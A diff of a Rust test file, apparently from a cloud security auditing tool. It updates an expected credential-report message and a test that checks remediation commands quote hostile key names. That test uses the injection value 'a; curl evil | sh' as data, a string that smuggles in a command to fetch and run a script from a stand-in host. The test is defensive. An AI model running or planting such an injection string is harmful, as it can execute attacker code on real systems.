@@ -107,7 +107,7 @@ fn a_verdict_by_an_old_report_says_how_old() {
     assert_eq!(
         message(account().user(with_key("alice")).judged_later(200)),
         "the key is active, and works until somebody deactivates it \
-         (by a credential report 3 h 20 min old: a change since is not seen)"
+         (credential report, 3 h 20 min old)"
     );
     let live = with_key("alice").read_from("keys", &operation::LIST_ACCESS_KEYS);
     assert_eq!(
@@ -137,8 +137,8 @@ fn hostile_names_are_quoted_in_commands() {
     let hostile = account().user(with_key("a; curl evil | sh"));
     for check in CHECKS {
         for row in hostile.judged(check) {
-            let bare = row.remediation.cli.replace("'a; curl evil | sh'", "");
-            assert!(!bare.contains("curl evil"), "{}: {}", check.id, row.remediation.cli);
+            let bare = row.remediation().cli.replace("'a; curl evil | sh'", "");
+            assert!(!bare.contains("curl evil"), "{}: {}", check.id, row.remediation().cli);
         }
     }
 }
